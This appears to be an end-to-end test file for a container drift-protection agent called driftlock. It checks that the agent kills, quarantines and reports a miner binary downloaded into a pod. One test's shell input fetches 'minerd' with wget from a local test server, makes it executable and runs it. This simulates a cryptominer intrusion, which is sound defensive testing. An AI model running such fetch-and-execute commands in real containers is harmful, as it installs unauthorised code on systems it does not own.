import { execFileSync } from 'child_process';
import { createHash, randomBytes } from 'crypto';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { PolicyDocument, PROTOCOL_VERSION, ThreatReport } from '@driftlock/protocol';
import {
  buildFixtures,
  Cluster,
  Dockerd,
  FileServer,
  freeLoopbackPort,
  Pod,
  removePod,
  runPod,
  serveFiles,
  startCluster,
} from '../../../e2e/cluster';
import { saveCredentials } from '../src/transport/enroll';
import { AgentProcess, REPO } from './support/agent-process';
import { AgentServer } from './support/agent-server';
import { acquireHostLock } from './support/host-lock';

/**
 * The agent with real pods: a private containerd making pods the way the kubelet does, a CRI
 * streaming exec session (the `kubectl exec` path), and the server side of the agent protocol
 * in the test. Protection is switched on for this test's namespace in this test's cluster only.
 */
const CONTAINERD_DIR = '/var/lib/driftlock-test/agent-pods';
const SUFFIX = randomBytes(3).toString('hex');
const CLUSTER = `agent-it-${SUFFIX}`;
const NODE = `node-${SUFFIX}`;
const NAMESPACE = 'shop';
const AGENT_ID = '5d7e8f9a-0b1c-4d2e-8f3a-4b5c6d7e8f9a';
const POLICY: PolicyDocument = {
  version: 1,
  default: { enabled: false, mode: 'protect' },
  overrides: [
    { scope: 'namespace', cluster: CLUSTER, namespace: NAMESPACE, enabled: true, mode: 'protect' },
  ],
  exceptions: [],
};

describe('driftlock agent with real CRI pods and Docker containers', () => {
  let cluster: Cluster;
  let dockerd: Dockerd;
  let files: FileServer;
  let pod: Pod;
  let server: AgentServer;
  let agent: AgentProcess;
  let stateDir: string;
  let minerd: Buffer;

  let releaseLock: (() => void) | undefined;

  beforeAll(async () => {
    releaseLock = await acquireHostLock();
    execFileSync('make', ['-C', path.join(REPO, 'bpf'), '--quiet', 'sensor'], { stdio: 'inherit' });
    minerd = fs.readFileSync((await buildFixtures()).minerd);
    files = await serveFiles({ '/minerd': minerd });
    cluster = await startCluster(CONTAINERD_DIR);
    // Before the agent: it asks only the runtimes whose sockets exist when it starts.
    dockerd = await Dockerd.start(cluster.containerd);
    await dockerd.loadImage(cluster.images.nodeWebApp);

    stateDir = fs.mkdtempSync(path.join(os.tmpdir(), 'driftlock-agent-pods-'));
    server = new AgentServer();
    const url = await server.listen();
    saveCredentials(path.join(stateDir, 'credentials.json'), {
      server: url,
      agentId: AGENT_ID,
      secret: 'secret',
    });
    agent = new AgentProcess(stateDir, {
      DRIFTLOCK_CRI_ADDRESS: `unix://${cluster.containerd.socket}`,
      DRIFTLOCK_DOCKER_SOCKET: dockerd.socket,
      DRIFTLOCK_CLUSTER: CLUSTER,
      DRIFTLOCK_NODE_NAME: NODE,
      DRIFTLOCK_METADATA_WAIT_MS: '5000',
    });
    agent.start();
    await server.until(() => server.ofType('hello').length === 1, 30_000);
    server.send({ v: PROTOCOL_VERSION, type: 'policy', policy: POLICY });
    await server.until(() => server.ofType('policy_applied').length === 1);

    pod = await runPod(cluster.containerd.cri, {
      name: `node-web-app-${SUFFIX}`,
      namespace: NAMESPACE,
      labels: { app: 'node-web-app', tier: 'frontend' },
      containers: [
        {
          name: 'app',
          image: cluster.images.nodeWebApp.tag,
          env: { PORT: String(await freeLoopbackPort()) },
        },
      ],
    });
    await agent.modeSet(pod.containers.app as string, 'protect');
  }, 120_000);

  afterAll(async () => {
    try {
      await agent?.kill('SIGTERM');
      if (pod) await removePod(cluster.containerd.cri, pod);
      await dockerd?.stop();
      await cluster?.stop();
      await files?.close();
      await server?.close();
      if (stateDir) fs.rmSync(stateDir, { recursive: true, force: true });
    } finally {
      releaseLock?.();
    }
  });

  function threats(): ThreatReport[] {
    return [...server.stored.values()].flatMap((m) => (m.type === 'threat' ? [m.threat] : []));
  }

  it('kills a miner downloaded in a kubectl exec session and reports it with its pod and storyline', async () => {
    const app = pod.containers.app as string;
    const session = await cluster.containerd.cri.execStream(app, ['sh'], {
      stdin: `cd /tmp\n/usr/bin/wget -q ${files.url}/minerd\n/bin/chmod +x minerd\n./minerd\nexit $?\n`,
    });
    expect(session.exitCode).toBe(137);

    await server.until(() => threats().length === 1, 20_000);
    const [threat] = threats();
    expect(threat).toMatchObject({
      driftClass: 'new_binary',
      mode: 'protect',
      commandLine: './minerd',
      file: {
        path: '/tmp/minerd',
        size: minerd.length,
        sha256: createHash('sha256').update(minerd).digest('hex'),
      },
      container: {
        id: app,
        name: 'app',
        runtime: 'containerd',
        image: cluster.images.nodeWebApp.tag,
      },
      kubernetes: {
        podName: pod.name,
        podUid: pod.uid,
        namespace: NAMESPACE,
        podLabels: { app: 'node-web-app', tier: 'frontend' },
        containerName: 'app',
        node: NODE,
        cluster: CLUSTER,
      },
    });
    expect(threat.container?.imageDigest).toMatch(/sha256:[0-9a-f]{64}/);
    expect(threat.mitigations).toMatchObject([
      { action: 'kill', outcome: 'succeeded', killedInKernel: true },
      { action: 'quarantine', outcome: 'succeeded' },
    ]);

    const { storyline } = threat;
    expect(storyline.origin).toBe('kubectl_exec');
    const root = storyline.processes.find((p) => p.origin === 'kubectl_exec');
    expect(root?.args).toEqual(['sh']);
    const children = storyline.processes.filter((p) => p.parentProcessId === root?.processId);
    expect(children.map((p) => p.args.join(' '))).toEqual(
      expect.arrayContaining([
        `/usr/bin/wget -q ${files.url}/minerd`,
        '/bin/chmod +x minerd',
        './minerd',
      ]),
    );

    const ls = await cluster.containerd.cri.execSync(app, ['ls', '/tmp']);
    expect(ls.stdout.toString()).not.toContain('minerd');
  });

  it('lets image binaries and image scripts run in an exec session', async () => {
    const before = threats().length;
    const session = await cluster.containerd.cri.execStream(pod.containers.app as string, [
      'sh',
      '-c',
      'ls / && echo ok',
    ]);
    expect(session.exitCode).toBe(0);
    await new Promise((resolve) => setTimeout(resolve, 1000));
    expect(threats()).toHaveLength(before);
  });

  it('reports drift in a docker exec session of a plain Docker container, with its Docker metadata', async () => {
    // Detect mode for every container without a namespace: this agent also sees other tests' containers.
    server.send({
      v: PROTOCOL_VERSION,
      type: 'policy',
      policy: { ...POLICY, version: 2, default: { enabled: true, mode: 'detect' } },
    });
    await server.until(() => server.ofType('policy_applied').some((m) => m.version === 2));
    const name = `shop-web-${SUFFIX}`;
    const id = await dockerd.runContainer({
      name,
      image: cluster.images.nodeWebApp.tag,
      env: { PORT: String(await freeLoopbackPort()) },
    });
    await agent.modeSet(id, 'detect');
    const output = await dockerd.docker([
      'exec',
      name,
      'sh',
      '-c',
      'cd /tmp && /bin/busybox cp /bin/busybox echo && ./echo drift; echo "exit=$?"',
    ]);
    expect(output).toBe('drift\nexit=0');

    // By container: in detect mode for every plain container, the agent may see other drift too.
    await server.until(() => threats().some((t) => t.container?.id === id), 20_000);
    const threat = threats().find((t) => t.container?.id === id) as ThreatReport;
    expect(threat).toMatchObject({
      driftClass: 'new_binary',
      mode: 'detect',
      commandLine: './echo drift',
      file: { path: '/tmp/echo' },
      container: { id, name, runtime: 'docker', image: cluster.images.nodeWebApp.tag },
      kubernetes: null,
      mitigations: [{ action: 'none', outcome: 'skipped' }],
    });
    expect(threat.storyline.origin).toBe('docker_exec');
    await dockerd.docker(['rm', '-f', name]);
  });
});
